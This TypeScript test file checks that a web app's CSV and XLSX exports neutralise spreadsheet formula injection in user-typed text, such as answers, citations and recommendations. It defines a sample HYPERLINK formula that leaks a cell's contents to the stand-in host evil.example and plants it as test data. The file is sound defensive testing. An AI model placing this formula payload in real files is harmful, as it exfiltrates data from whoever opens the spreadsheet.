import { eq } from "drizzle-orm";
import type ExcelJS from "exceljs";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, expect, it } from "vitest";
import { buildApp } from "../../src/server/app/build-app.ts";
import { answers, evidenceSources, recommendations } from "../../src/server/db/schema.ts";
import { readDemoFramework } from "../../src/server/demo/demo-framework.ts";
import { seedReference } from "../../src/server/reference/countries.ts";
import { publishRelease } from "../../src/server/releases/publish.ts";
import { describeEachDatabase } from "../support/databases.ts";
import { buildAssessments, buildUser, type Session, signInAs } from "../support/factories.ts";
import { answerOf, buildPublishableCycle } from "../support/release-setup.ts";
import { columnOf, multipartFile, openWorkbook, rowOf } from "./exchange-files.ts";

/*
 * Text a coalition typed (answers, evidence, framework texts) must never run as a formula in the
 * spreadsheet of someone who downloads it: every CSV and XLSX export starts such a text with `'`.
 */

const PLANT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';

/** Every text cell of a workbook, by sheet. */
function textCells(book: ExcelJS.Workbook): Map<string, string[]> {
  const texts = new Map<string, string[]>();
  for (const sheet of book.worksheets) {
    const list: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === "string") list.push(cell.value);
      }),
    );
    texts.set(sheet.name, list);
  }
  return texts;
}

describeEachDatabase("CSV and XLSX exports: no formulas from typed text", (database) => {
  let app: FastifyInstance;
  let slug = "";

  beforeAll(async () => {
    const { db } = database();
    await seedReference(db);
    app = await buildApp({ database: database() });
    const demo = await readDemoFramework();
    const [first, ...rest] = demo.indicators;
    const framework = { ...demo, indicators: [{ ...first!, text: { ...first!.text, en: PLANT } }, ...rest] };
    const cycle = await buildPublishableCycle(db, { countries: ["MD"], validated: ["MD"], framework });
    const answerId = await answerOf(db, cycle.assessments.MD!, first!.code);
    await db.update(evidenceSources).set({ citation: PLANT }).where(eq(evidenceSources.answerId, answerId));
    const publisher = await buildUser(db, { isAdmin: true });
    ({ slug } = await publishRelease(db, {
      cycleId: cycle.cycleId,
      assessmentIds: [cycle.assessments.MD!],
      userId: publisher.id,
    }));
  });
  afterAll(async () => {
    await app?.close();
  });

  const download = (path: string) => app.inject({ url: path });

  it("writes the release CSV (whole and per country, public API and portal) with the text quoted, numbers as numbers", async () => {
    for (const path of [
      `/api/public/releases/${slug}/downloads/${slug}.csv`,
      `/api/public/releases/${slug}/downloads/countries/md.csv`,
      `/portal/${slug}/downloads/${slug}.csv`,
    ]) {
      const res = await download(path);
      expect(res.statusCode, path).toBe(200);
      const lines = res.body.split("\r\n");
      const planted = lines.filter((l) => l.includes("HYPERLINK"));
      expect(planted.length, path).toBeGreaterThan(0);
      for (const line of planted) expect(line).toContain(`"'=HYPERLINK(`);
      // No field of any line starts a formula.
      for (const line of lines) expect(line, path).not.toMatch(/(^|,)"?[=+@]/);
      const overall = lines.find((l) => l.startsWith("MD,") && l.includes(",node,"));
      expect(overall, path).toMatch(/,node,[^,]*,\d+(\.\d+)?,/);
    }
  });

  it("writes the release XLSX with every planted text quoted and the scores as numbers", async () => {
    for (const path of [
      `/api/public/releases/${slug}/downloads/${slug}.xlsx`,
      `/portal/${slug}/downloads/${slug}.xlsx`,
    ]) {
      const res = await download(path);
      expect(res.statusCode, path).toBe(200);
      const book = await openWorkbook(res.rawPayload);
      const texts = textCells(book);
      expect(texts.get("Indicators")).toContain(`'${PLANT}`);
      expect(texts.get("Scores")).toContain(`'${PLANT}`);
      expect(texts.get("Answers")?.some((t) => t.startsWith(`'${PLANT}`))).toBe(true);
      for (const [sheet, list] of texts)
        for (const text of list) expect(text, `${path} ${sheet}`).not.toMatch(/^[=+\-@]/);
      // No cell became a formula, and the scores stayed numbers.
      const scores = book.getWorksheet("Scores")!;
      const scoreColumn = columnOf(scores, "Score");
      let numbers = 0;
      scores.eachRow((row, n) => {
        row.eachCell((cell) => expect(cell.formula).toBeUndefined());
        if (n > 1 && typeof row.getCell(scoreColumn).value === "number") numbers++;
      });
      expect(numbers).toBeGreaterThan(0);
    }
  });

  it("quotes a formula-like recommendation in the follow-up report workbook", async () => {
    const { db } = database();
    const admin = await signInAs(app, await buildUser(db, { isAdmin: true }));
    await db.insert(recommendations).values({
      mechanism: "crc",
      session: "90",
      stateCode: "MD",
      stateName: "Moldova",
      text: { en: PLANT },
      uncrcArticles: ["19"],
      importKey: "formula-plant",
    });
    const res = await app.inject({
      url: "/api/recommendations/report.xlsx?state=MD",
      headers: admin.headers,
    });
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const texts = textCells(await openWorkbook(res.rawPayload));
    expect(texts.get("Recommendations")).toContain(`'${PLANT}`);
  });

  it("quotes a formula-like answer in the offline workbook, and importing it back changes nothing", async () => {
    const { db } = database();
    const built = await buildAssessments(db, { countries: ["MD"] });
    const coordinator: Session = await signInAs(
      app,
      await buildUser(db, { grants: [{ role: "coordinator", scopeType: "country", scopeCode: "MD" }] }),
    );
    const code = "ge.03"; // a yes/no indicator, which may be "not applicable" with a justification
    const put = await app.inject({
      method: "PUT",
      url: `/api/assessments/${built.assessments.MD}/answers/${code}`,
      headers: coordinator.headers,
      payload: { value: "na", justification: PLANT, expectedVersion: 0 },
    });
    expect(put.statusCode, put.body).toBe(200);
    const exported = await app.inject({
      url: `/api/assessments/${built.assessments.MD}/export.xlsx`,
      headers: coordinator.headers,
    });
    expect(exported.statusCode).toBe(200);
    const sheet = (await openWorkbook(exported.rawPayload)).getWorksheet("answers")!;
    const cell = sheet.getRow(rowOf(sheet, code)).getCell(columnOf(sheet, "justification"));
    expect(cell.value).toBe(`'${PLANT}`);

    const { payload, headers } = multipartFile(exported.rawPayload, "assessment-MD-2026.xlsx");
    const imported = await app.inject({
      method: "POST",
      url: `/api/assessments/${built.assessments.MD}/import`,
      headers: { ...coordinator.headers, ...headers },
      payload,
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toMatchObject({ ok: true, changed: 0 });
    const [stored] = await db
      .select({ justification: answers.justification })
      .from(answers)
      .where(eq(answers.assessmentId, built.assessments.MD!));
    expect(stored?.justification).toBe(PLANT);
  });
});
